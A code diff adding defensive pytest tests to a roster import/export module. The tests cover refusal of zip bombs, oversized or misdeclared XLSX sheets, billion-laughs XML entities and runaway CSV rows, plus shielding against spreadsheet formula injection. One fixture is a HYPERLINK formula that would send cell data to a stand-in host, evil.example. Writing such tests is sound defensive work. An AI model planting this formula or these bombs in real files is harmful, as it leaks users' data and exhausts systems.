@@ -1,21 +1,35 @@
-"""Rosters: parsing, every validation rule, encodings, XLSX cells, round trips."""
+"""Rosters: parsing, every validation rule, encodings, XLSX cells, round trips,
+hostile files (bombs, oversized sheets, XML entities), deadlines, formulas."""
 
 from __future__ import annotations
 
+import contextlib
+import csv
 import datetime as dt
 import io
+import os
+import re
+import struct
+import time
+import tracemalloc
+import zipfile
+from collections.abc import Callable
 from typing import Any
 
+import grpc
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from kit.errors import FieldViolation, InvalidArgument
+from kit import grpc_server
+from kit.errors import DeadlineExceeded, FieldViolation, InvalidArgument
+from registry import roster
 from registry.demo_data import build_district
 from registry.roster import (
     COLUMNS,
     FORMATS,
     KINDS,
     RosterError,
+    RosterLimits,
     RowError,
     content_type,
     filename,
@@ -672,3 +686,327 @@ def test_xlsx_date_cells_typed_as_numbers_or_text(cell: Any, expected: dt.date) 
     )
     [parsed] = parse_roster("positions", "xlsx", content)
     assert parsed.values["started_on"] == expected
+
+
+# ---------------------------------------------------------------- hostile files
+
+
+def problem_with_content(kind: str, fmt: str, content: bytes, **caps: int) -> str:
+    """The refusal of a whole file: an InvalidArgument on "content", not row errors."""
+    with pytest.raises(InvalidArgument) as caught:
+        parse_roster(kind, fmt, content, RosterLimits(**caps))
+    error = caught.value
+    assert not isinstance(error, RosterError), error.message
+    (violation,) = error.violations
+    assert violation.field == "content"
+    assert error.message == f"content: {violation.description}; nothing was imported"
+    return violation.description
+
+
+def peak_memory(action: Callable[[], Any]) -> int:
+    """The most memory Python allocated while `action` ran, in bytes."""
+    tracemalloc.start()
+    try:
+        with contextlib.suppress(InvalidArgument):
+            action()
+        return tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def test_the_xfd1048576_bomb_is_refused_by_the_size_it_declares(hostile: Any) -> None:
+    bomb = hostile.xfd_bomb()
+    assert len(bomb) < 5 * 1024
+    assert '<dimension ref="XFD1048576:XFD1048576"' in hostile.part(bomb)
+    reason = problem_with_content("deputies", "xlsx", bomb)
+    assert "row 1048576, column 16384 (XFD1048576:XFD1048576)" in reason
+    assert "the limit is 20000 rows and 64 columns" in reason
+    assert peak_memory(lambda: parse_roster("deputies", "xlsx", bomb)) < 5 * 1024 * 1024
+
+
+@pytest.mark.parametrize("dimension", ['<dimension ref="A1:A1" />', ""])
+def test_a_sheet_that_lies_about_its_size_is_read_within_the_caps(
+    hostile: Any, dimension: str
+) -> None:
+    bomb = hostile.xfd_bomb()
+    lying = re.sub(r"<dimension [^>]*/>", dimension, hostile.part(bomb))
+    content = hostile.with_parts(bomb, {SHEET: lying.encode()})
+    reason = problem_with_content("deputies", "xlsx", content, max_rows=500)
+    assert reason == "the file goes past row 500; the limit is 500 rows"
+    assert peak_memory(lambda: parse_roster("deputies", "xlsx", content)) < 5 * 1024 * 1024
+
+
+def test_a_value_past_the_column_cap_in_a_lying_sheet_is_refused(hostile: Any) -> None:
+    content = xlsx_bytes([["代表编号", "姓名"], ["D001", "张伟", *[None] * 10, "stray"]])
+    lying = re.sub(r"<dimension [^>]*/>", '<dimension ref="A1:B2" />', hostile.part(content))
+    content = hostile.with_parts(content, {SHEET: lying.encode()})
+    reason = problem_with_content("deputies", "xlsx", content, max_columns=12)
+    assert reason == "row 2 has a value in column 13; the limit is 12 columns"
+
+
+def test_an_honest_sheet_over_the_caps_is_refused_by_its_dimension() -> None:
+    rows = [["代表编号", "姓名"], *[[f"D{n:03d}", "张伟"] for n in range(1, 11)]]
+    content = xlsx_bytes(rows)
+    assert problem_with_content("deputies", "xlsx", content, max_rows=10).startswith(
+        "the sheet declares cells up to row 11, column 2 (A1:B11)"
+    )
+    assert "the limit is 20 rows and 1 columns" in problem_with_content(
+        "deputies", "xlsx", content, max_rows=20, max_columns=1
+    )
+
+
+def zip_with_part(hostile: Any, name: str, size: int, pattern: bytes = b" ") -> bytes:
+    return hostile.with_large_part(xlsx_bytes([HEADER.split(",")]), name, size, pattern)
+
+
+def test_a_zip_bomb_is_refused_from_the_zip_directory(hostile: Any) -> None:
+    bomb = zip_with_part(hostile, "xl/media/image1.bin", 200 * 1024 * 1024)
+    assert len(bomb) < 400 * 1024
+    reason = problem_with_content("deputies", "xlsx", bomb)
+    assert reason == (
+        "the workbook's part xl/media/image1.bin unzips to 200.0 MiB; the limit is 40.0 MiB a part"
+    )
+    assert peak_memory(lambda: parse_roster("deputies", "xlsx", bomb)) < 5 * 1024 * 1024
+
+
+def test_a_part_compressed_past_the_ratio_is_refused(hostile: Any) -> None:
+    content = zip_with_part(hostile, "xl/media/image1.bin", 2 * 1024 * 1024)
+    reason = problem_with_content("deputies", "xlsx", content)
+    assert re.fullmatch(
+        r"the workbook's part xl/media/image1.bin is compressed \d+:1; the limit is 100:1", reason
+    ), reason
+
+
+def test_parts_within_their_cap_that_unzip_past_the_total_are_refused(hostile: Any) -> None:
+    content = zip_with_part(hostile, "xl/media/image1.bin", 1024 * 1024, os.urandom(4096))
+    unzipped = sum(part.file_size for part in zipfile.ZipFile(io.BytesIO(content)).infolist())
+    reason = problem_with_content("deputies", "xlsx", content, max_unzipped_bytes=1024 * 1024)
+    assert reason == f"the workbook unzips to {unzipped} bytes; the limit is 1048576 bytes"
+    # The same file is read when the caps allow it.
+    assert parse_roster("deputies", "xlsx", content) == []
+
+
+def test_a_zip_of_thousands_of_parts_is_refused_before_its_directory_is_read() -> None:
+    buffer = io.BytesIO(xlsx_bytes([["代表编号", "姓名"]]))
+    with zipfile.ZipFile(buffer, "a") as archive:
+        for n in range(6000):
+            archive.writestr(f"customXml/item{n}.xml", b"")
+    reason = problem_with_content("deputies", "xlsx", buffer.getvalue())
+    assert reason.startswith("the workbook's zip directory (too many parts) is ")
+    assert reason.endswith("the limit is 256.0 KiB")
+
+
+def test_a_zip_directory_that_understates_a_part_cannot_unzip_more() -> None:
+    """zipfile stops at the size the directory declares, so the checks on
+    declared sizes hold: the rest of the part is never unzipped."""
+    content = bytearray(xlsx_bytes([["代表编号", "姓名"], ["D001", "张伟"]]))
+    name = SHEET.encode()
+    found = 0
+    start = content.find(b"PK\x01\x02")
+    while start >= 0:
+        name_length = struct.unpack_from("<H", content, start + 28)[0]
+        if content[start + 46 : start + 46 + name_length] == name:
+            struct.pack_into("<I", content, start + 24, 64)  # uncompressed size
+            found += 1
+        start = content.find(b"PK\x01\x02", start + 4)
+    assert found == 1
+    assert only_problem("deputies", bytes(content), fmt="xlsx") == (
+        1,
+        "",
+        "the file is not a readable XLSX workbook",
+    )
+
+
+@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml"])
+def test_billion_laughs_is_refused_not_expanded(hostile: Any, part: str) -> None:
+    bomb = hostile.billion_laughs(xlsx_bytes([["代表编号", "姓名"], ["D001", "张伟"]]), part)
+    reason = problem_with_content("deputies", "xlsx", bomb)
+    assert reason == "the workbook's XML declares entities, which a roster never needs"
+    # Expanded, &lol9; would be 3 * 10**9 characters.
+    assert peak_memory(lambda: parse_roster("deputies", "xlsx", bomb)) < 5 * 1024 * 1024
+
+
+def test_the_file_size_is_capped() -> None:
+    content = deputies(GOOD)
+    assert parse_roster("deputies", "csv", content, RosterLimits(max_bytes=len(content)))
+    reason = problem_with_content("deputies", "csv", content, max_bytes=len(content) - 1)
+    assert reason == f"the file is {len(content)} bytes; the limit is {len(content) - 1} bytes"
+    # Where the rounded sizes would read the same, the bytes are given.
+    assert problem_with_content(
+        "deputies", "csv", b"x" * (2 * 1024 * 1024 + 1), max_bytes=2 * 1024 * 1024
+    ) == ("the file is 2097153 bytes; the limit is 2097152 bytes")
+
+
+def test_csv_rows_are_capped_blank_ones_included() -> None:
+    ten = [GOOD.replace("D001", f"D{n:03d}") for n in range(1, 10)]
+    assert len(parse_roster("deputies", "csv", deputies(*ten), RosterLimits(max_rows=10))) == 9
+    reason = problem_with_content("deputies", "csv", deputies(*ten, ""), max_rows=10)
+    assert reason == "the file goes past row 10; the limit is 10 rows"
+
+
+def test_csv_columns_are_capped_but_empty_ones_past_the_cap_are_ignored() -> None:
+    width = len(HEADER.split(","))
+    [parsed] = parse_roster(
+        "deputies",
+        "csv",
+        deputies(GOOD + "," * 5, header=HEADER + "," * 5),
+        RosterLimits(max_columns=width),
+    )
+    assert parsed.values["code"] == "D001"
+    reason = problem_with_content(
+        "deputies", "csv", deputies(GOOD + ",,x", header=HEADER), max_columns=width + 1
+    )
+    assert reason == f"row 2 has a value in column {width + 2}; the limit is {width + 1} columns"
+
+
+def test_a_csv_row_of_endless_separators_is_refused_before_it_is_split() -> None:
+    content = deputies(GOOD, "," * 100_000)
+    reason = problem_with_content("deputies", "csv", content)
+    assert reason == "row 3 holds more than 4096 ',' separators; the limit is 64 columns"
+    assert peak_memory(lambda: parse_roster("deputies", "csv", content)) < 5 * 1024 * 1024
+
+
+def test_limits_come_from_the_environment() -> None:
+    assert RosterLimits.from_environ({}) == RosterLimits()
+    limits = RosterLimits.from_environ(
+        {"LIAISON_REGISTRY_ROSTER_MAX_ROWS": "500", "LIAISON_REGISTRY_ROSTER_MAX_BYTES": " 2048 "}
+    )
+    assert (limits.max_rows, limits.max_bytes, limits.max_columns) == (500, 2048, 64)
+    for bad in ("0", "-1", "1e6", "many"):
+        with pytest.raises(ValueError, match="LIAISON_REGISTRY_ROSTER_MAX_COLUMNS"):
+            RosterLimits.from_environ({"LIAISON_REGISTRY_ROSTER_MAX_COLUMNS": bad})
+
+
+# ---------------------------------------------------------------- linear work
+
+
+def test_finding_columns_without_a_header_is_one_pass_over_the_cells(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Values under an empty header are noted in the pass that reads the
+    cells, not looked for again in every row for each headerless column: the
+    cells looked at grow with the cells of the file, not headers x rows."""
+    looks = 0
+
+    class WatchedRow(list[Any]):
+        def __len__(self) -> int:
+            nonlocal looks
+            looks += 1
+            return super().__len__()
+
+        def __getitem__(self, index: Any) -> Any:
+            nonlocal looks
+            looks += 1
+            return super().__getitem__(index)
+
+    read = roster._csv_records
+    monkeypatch.setattr(
+        roster,
+        "_csv_records",
+        lambda content, limits: (WatchedRow(record) for record in read(content, limits)),
+    )
+    # Excel leaves trailing separators on a header; the rows are short.
+    empty_headers, rows = 1000, 1000
+    header = HEADER + "," * empty_headers
+    lines = [GOOD.replace("D001", f"D{n:04d}") for n in range(rows)]
+    parsed = parse_roster(
+        "deputies", "csv", deputies(*lines, header=header), RosterLimits(max_columns=2000)
+    )
+    assert len(parsed) == rows
+    cells = len(header.split(",")) + rows * len(GOOD.split(","))
+    assert looks <= 3 * cells, (looks, cells)
+
+
+# ---------------------------------------------------------------- deadline
+
+
+def test_parsing_checks_the_deadline_at_every_row(monkeypatch: pytest.MonkeyPatch) -> None:
+    checked: list[str] = []
+    monkeypatch.setattr(roster, "check_deadline", checked.append)
+    parse_roster("deputies", "csv", deputies(GOOD, "", GOOD.replace("D001", "D002")))
+    assert checked == [
+        "reading row 1 of the roster",
+        "reading row 2 of the roster",
+        "reading row 3 of the roster",
+        "reading row 4 of the roster",
+        "checking row 2 of the roster",
+        "checking row 4 of the roster",
+    ]
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_deadline_that_has_passed_stops_the_parse(fmt: str) -> None:
+    content = write_roster("deputies", fmt, [FULL_DEPUTY])
+    token = grpc_server._deadline.set(time.monotonic() - 1)
+    try:
+        with pytest.raises(DeadlineExceeded) as caught:
+            parse_roster("deputies", fmt, content)
+    finally:
+        grpc_server._deadline.reset(token)
+    assert caught.value.code == grpc.StatusCode.DEADLINE_EXCEEDED
+    assert caught.value.message == "the call's deadline passed while reading row 1 of the roster"
+    # Outside a call there is no deadline.
+    assert parse_roster("deputies", fmt, content)[0].values == FULL_DEPUTY
+
+
+# ---------------------------------------------------------------- formulas
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&M2&N2,"详情")'
+FORMULA_DEPUTY = {**FULL_DEPUTY, "biography": HYPERLINK, "phone": "+8613812345678"}
+
+
+def test_csv_export_leads_formula_starts_with_a_quote() -> None:
+    rows = [
+        {**FORMULA_DEPUTY, "code": "D001"},
+        {**FULL_DEPUTY, "code": "D002", "profession": "-律师", "workplace": "@单位"},
+        {**FULL_DEPUTY, "code": "D003", "workplace": "\t=1+1", "workplace_address": "\r=2"},
+    ]
+    table = list(csv.reader(io.StringIO(write_roster("deputies", "csv", rows).decode("utf-8-sig"))))
+    header = table[0]
+    first, second, third = (dict(zip(header, row, strict=True)) for row in table[1:])
+    assert first["简介"] == "'" + HYPERLINK
+    assert first["电话"] == "'+8613812345678"
+    assert (second["职业"], second["工作单位"]) == ("'-律师", "'@单位")
+    # Text is exported trimmed, so a leading tab or CR never reaches a cell;
+    # were one there, it would be shielded too.
+    assert (third["工作单位"], third["单位地址"]) == ("'=1+1", "'=2")
+    assert (roster._shield("\tx", "csv"), roster._shield("\rx", "csv")) == ("'\tx", "'\rx")
+    assert first["姓名"] == "张伟"  # other text is untouched
+
+
+def test_xlsx_export_writes_every_text_cell_as_text() -> None:
+    row = {**FORMULA_DEPUTY, "profession": "#N/A", "workplace": "-1"}
+    sheet = load_workbook(io.BytesIO(write_roster("deputies", "xlsx", [row]))).worksheets[0]
+    cells = {sheet.cell(row=1, column=c.column).value: c for c in sheet[2]}
+    assert cells["简介"].data_type == "s"
+    assert cells["简介"].value == HYPERLINK
+    assert cells["简介"].quotePrefix
+    assert (cells["电话"].data_type, cells["电话"].value) == ("s", "+8613812345678")
+    assert (cells["职业"].data_type, cells["职业"].value) == ("s", "#N/A")
+    assert (cells["工作单位"].data_type, cells["工作单位"].value) == ("s", "-1")
+    assert not cells["姓名"].quotePrefix
+    assert cells["任期开始"].data_type == "d"
+    # No formula anywhere in the sheet's XML.
+    sheet_source = zipfile.ZipFile(io.BytesIO(write_roster("deputies", "xlsx", [row]))).read(SHEET)
+    assert b"<f>" not in sheet_source and b"<f " not in sheet_source
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize(
+    "biography",
+    [HYPERLINK, "+1", "-", "@x", "'", "'abc", "'=x", "''", "''=x", "普通简介"],
+)
+def test_formula_like_text_round_trips_exactly(fmt: str, biography: str) -> None:
+    row = {**FORMULA_DEPUTY, "biography": biography}
+    [parsed] = parse_roster("deputies", fmt, write_roster("deputies", fmt, [row]))
+    assert parsed.values == row
+
+
+def test_a_quote_typed_before_a_formula_start_is_taken_off_on_import() -> None:
+    [parsed] = parse_roster(
+        "deputies", "csv", deputies(GOOD + ",'+8613812345678,'=1", header=HEADER + ",电话,简介")
+    )
+    assert (parsed.values["phone"], parsed.values["biography"]) == ("+8613812345678", "=1")
